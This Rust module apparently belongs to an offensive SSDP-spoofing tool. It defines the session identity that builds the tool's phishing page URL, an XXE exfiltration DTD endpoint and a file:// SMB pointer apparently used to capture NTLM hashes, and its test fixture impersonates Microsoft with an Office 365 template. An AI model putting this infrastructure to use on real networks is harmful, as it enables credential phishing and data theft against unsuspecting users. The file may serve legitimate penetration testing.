use std::net::Ipv4Addr;
use std::path::PathBuf;

use uuid::Uuid;

/// Startup-computed identity shared by the discovery responder, the request
/// router and the template engine.
///
/// Built exactly once and shared behind an `Arc`; nothing mutates it afterwards, so
/// the discovery reply and every rendered descriptor always agree on the same values.
#[derive(Debug, Clone)]
pub struct SessionIdentity {
    pub local_ip: Ipv4Addr,
    pub local_port: u16,
    pub smb_server: String,
    pub redirect_url: String,
    pub session_usn: String,
    pub analyze_only: bool,
    pub auth_required: bool,
    pub realm: String,
    pub campaign_dir: PathBuf,
    pub assets_dir: PathBuf,
}

impl SessionIdentity {
    /// Mints a fresh `uuid:xxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx` identifier.
    pub fn generate_usn() -> String {
        format!("uuid:{}", Uuid::new_v4().hyphenated())
    }

    fn base_url(&self) -> String {
        format!("http://{}:{}", self.local_ip, self.local_port)
    }

    /// URL advertised in the `LOCATION` header of discovery replies.
    pub fn device_desc_url(&self) -> String {
        format!("{}/ssdp/device-desc.xml", self.base_url())
    }

    pub fn service_desc_url(&self) -> String {
        format!("{}/ssdp/service-desc.xml", self.base_url())
    }

    pub fn phish_url(&self) -> String {
        format!("{}/present.html", self.base_url())
    }

    pub fn exfil_url(&self) -> String {
        format!("{}/ssdp/data.dtd", self.base_url())
    }

    pub fn smb_pointer(&self) -> String {
        format!("file://///{}/smb/hash.jpg", self.smb_server)
    }

    /// Exfiltration campaigns are recognized by their directory name.
    pub fn is_exfil_campaign(&self) -> bool {
        self.campaign_dir.to_string_lossy().contains("xxe-exfil")
    }
}

#[cfg(test)]
pub(crate) fn sim_identity() -> SessionIdentity {
    SessionIdentity {
        local_ip: Ipv4Addr::new(10, 0, 0, 5),
        local_port: 8888,
        smb_server: "10.0.0.5".to_string(),
        redirect_url: String::new(),
        session_usn: "uuid:0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0".to_string(),
        analyze_only: false,
        auth_required: false,
        realm: "Microsoft Corporation".to_string(),
        campaign_dir: PathBuf::from("templates/office365"),
        assets_dir: PathBuf::from("templates/assets"),
    }
}
